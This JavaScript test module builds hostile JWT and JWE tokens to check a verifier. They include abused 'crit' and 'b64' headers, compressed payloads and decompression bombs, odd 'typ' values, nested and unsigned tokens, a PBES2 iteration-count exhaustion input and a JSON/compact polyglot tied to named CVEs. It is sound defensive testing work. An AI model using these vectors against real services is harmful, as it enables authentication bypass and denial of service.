// Attacks through the header, and through nested or encrypted tokens. Each vector returns a token.
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { CompactEncrypt, EncryptJWT, FlattenedSign, GeneralSign } from 'jose';
import { forge, HS256, luis, mac, now, part, signed } from '../../support/forged.mjs';
import { SECRET } from '../../support/tokens.mjs';
import { claims, ec, named, rsa, withHeader } from './make.mjs';

export const HEADERS = {
  'headers that must be understood (RFC 7515 4.1.11, RFC 7797, RFC 8725 3.11)': {
    ...named(
      [
        ['x'],
        ['exp'],
        ['alg'],
        ['b64'],
        ['sub', 'exp'],
        ['http://example.com/UNDEFINED'],
        [],
        [''],
        [1],
        'exp',
        '',
        null,
        true,
        false,
        0,
        {},
        { b64: true },
      ],
      (crit) => [
        `crit ${JSON.stringify(crit)}`,
        () => withHeader({ crit, x: 1, exp: now() + 3600, 'http://example.com/UNDEFINED': true }),
      ],
    ),
    'crit that names a missing member': () => withHeader({ crit: ['exp'] }),
    'crit written with an escape': () => forge('{"alg":"HS256","cr\\u0069t":["x"],"x":1}', luis()),
    'b64 false, critical, with an unencoded payload': () =>
      signed(`${part({ ...HS256, b64: false, crit: ['b64'] })}.${claims()}`),
    'b64 false, critical, with a payload in base64': () => withHeader({ b64: false, crit: ['b64'] }),
    'b64 false with an unencoded payload': () => signed(`${part({ ...HS256, b64: false })}.${claims()}`),
    'b64 false with a detached payload': () =>
      ((text) => `${part({ ...HS256, b64: false, crit: ['b64'] })}..${mac(text).toString('base64url')}`)(
        `${part({ ...HS256, b64: false, crit: ['b64'] })}.${claims()}`,
      ),
    'a detached payload': () => forge(HS256, luis()).replace(/\.[^.]*\./, '..'),
    ...named(
      [
        ['DEF', deflateRawSync],
        ['DEF', deflateSync],
        ['GZIP', gzipSync],
      ],
      ([zip, pack]) => [
        `zip ${zip}, compressed by ${pack.name}`,
        () => forge({ ...HS256, zip }, pack(Buffer.from(claims()))),
      ],
    ),
    'a decompression bomb': () => forge({ ...HS256, zip: 'DEF' }, deflateRawSync(Buffer.alloc(4_000_000, 'A'))),
    ...named(
      [
        'JWE',
        'JOSE',
        'JOSE+JSON',
        'at+jwt',
        'application/at+jwt',
        'id+jwt',
        'refresh+jwt',
        'rt+jwt',
        'logout+jwt',
        'dpop+jwt',
        'secevent+jwt',
        'oauth-authz-req+jwt',
        'kb+jwt',
        'vc+sd-jwt',
        'SAML',
        'JWT2',
        'XJWT',
        'JW',
        'JWT ',
        ' JWT',
        'JWT\0',
        'JWT;x',
        'JWT,JWT',
        'ＪＷＴ',
        'JꓪT',
        'J\u200bWT',
        '',
        ' ',
        'null',
        '\0',
      ],
      (typ) => [`typ ${JSON.stringify(typ)}`, () => forge({ alg: 'HS256', typ }, luis())],
    ),
    ...named([7, null, true, ['JWT'], { typ: 'JWT' }, [], 0, false], (typ) => [
      `typ as ${JSON.stringify(typ)}`,
      () => forge({ alg: 'HS256', typ }, luis()),
    ]),
  },

  'nested and encrypted tokens (RFC 8725 2.3, 2.5, 3.3, CVE-2022-3102, CVE-2023-51774, CVE-2022-39227)': {
    'a token in a token, cty JWT': () => forge({ ...HS256, cty: 'JWT' }, forge(HS256, luis())),
    'a token in a token, without cty': () => forge(HS256, forge(HS256, luis())),
    'an unsigned token in a token': () =>
      forge({ ...HS256, cty: 'JWT' }, forge({ alg: 'none' }, luis(), { signature: '' })),
    'a good token in an unsigned one': () =>
      forge({ alg: 'none', cty: 'JWT' }, forge(HS256, luis()), { signature: '' }),
    'a token in a token as a JSON string': () => forge({ ...HS256, cty: 'JWT' }, JSON.stringify(forge(HS256, luis()))),
    'a token nested ten levels deep': () => {
      let inner = part(luis());
      for (let depth = 0; depth < 10; depth++) inner = forge({ ...HS256, cty: 'JWT' }, inner.slice(0, 400));
      return inner;
    },
    'cty JWT over a payload that is not claims': () => forge({ ...HS256, cty: 'JWT' }, '"x"'),
    'dir, under the secret': () =>
      new EncryptJWT(luis())
        .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', typ: 'JWT' })
        .encrypt(Buffer.from(SECRET).subarray(0, 32)),
    'dir, with a token inside': () =>
      new CompactEncrypt(Buffer.from(forge(HS256, luis())))
        .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' })
        .encrypt(Buffer.from(SECRET).subarray(0, 32)),
    'A256KW, under the secret': () =>
      new EncryptJWT(luis())
        .setProtectedHeader({ alg: 'A256KW', enc: 'A128CBC-HS256' })
        .encrypt(Buffer.from(SECRET).subarray(0, 32)),
    "RSA-OAEP, under the attacker's key": () =>
      new EncryptJWT(luis()).setProtectedHeader({ alg: 'RSA-OAEP', enc: 'A128GCM' }).encrypt(rsa.publicKey),
    "ECDH-ES, under the attacker's key": () =>
      new EncryptJWT(luis()).setProtectedHeader({ alg: 'ECDH-ES', enc: 'A128GCM' }).encrypt(ec.publicKey),
    'PBES2 with a billion rounds (CVE-2023-50967)': () => {
      const header = { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2_000_000_000, p2s: 'AAAAAAAAAAA' };
      return `${part(header)}.AAAA.AAAA.AAAA.AAAA`;
    },
    'a decompression bomb in a JWE (CVE-2024-33664)': () => {
      const bomb = deflateRawSync(Buffer.alloc(1_000_000, 'A')).toString('base64url');
      return `${part({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' })}..AAAA.${bomb}.AAAA`;
    },
    'five empty parts': () => '....',
    'HS256 with five parts': () => `${forge(HS256, luis())}.e30.e30`,
    'HS256 with four parts': () => `${forge(HS256, luis())}.e30`,
    'two tokens joined with a dot': () => `${forge(HS256, luis())}.${forge(HS256, luis())}`,
    'an empty part before it': () => `.${forge(HS256, luis())}`,
    'the JSON serialization': async () =>
      JSON.stringify(
        await new FlattenedSign(Buffer.from(claims())).setProtectedHeader(HS256).sign(Buffer.from(SECRET)),
      ),
    'the JSON serialization, general': async () =>
      JSON.stringify(
        await new GeneralSign(Buffer.from(claims())).addSignature(Buffer.from(SECRET)).setProtectedHeader(HS256).sign(),
      ),
    'the JSON serialization in base64': async () =>
      part(await new FlattenedSign(Buffer.from(claims())).setProtectedHeader(HS256).sign(Buffer.from(SECRET))),
    'the JSON serialization with an unprotected header': () =>
      ((text) =>
        JSON.stringify({ payload: part(claims()), header: HS256, signature: mac(text).toString('base64url') }))(
        `.${part(claims())}`,
      ),
    'a polyglot of both serializations (CVE-2022-39227)': () => {
      const [header, payload, signature] = forge(HS256, luis()).split('.');
      const compact = `  ${header}.${part({ ...luis(), sub: '1' })}.`;
      return `{"${compact}":"","protected":"${header}","payload":"${payload}","signature":"${signature}"}`;
    },
    'a list of tokens': () => JSON.stringify([forge(HS256, luis())]),
    'a token in quotes': () => `"${forge(HS256, luis())}"`,
    'a token in angle brackets': () => `<${forge(HS256, luis())}>`,
    'a CWT': () =>
      part(
        Buffer.from(
          'd28443a10105a0582aa1061a5612aeb00158200000000000000000000000000000000000000000000000000000000000000000',
          'hex',
        ),
      ),
    'claims in CBOR': () => forge({ ...HS256, cty: 'CBOR' }, Buffer.from('a2637375626136636578701a7fffffff', 'hex')),
    'a PASETO': () => `v4.local.${part('x'.repeat(60))}`,
    'a SAML assertion': () =>
      part(
        '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">' +
          '<saml:Subject>6</saml:Subject></saml:Assertion>',
      ),
  },
};
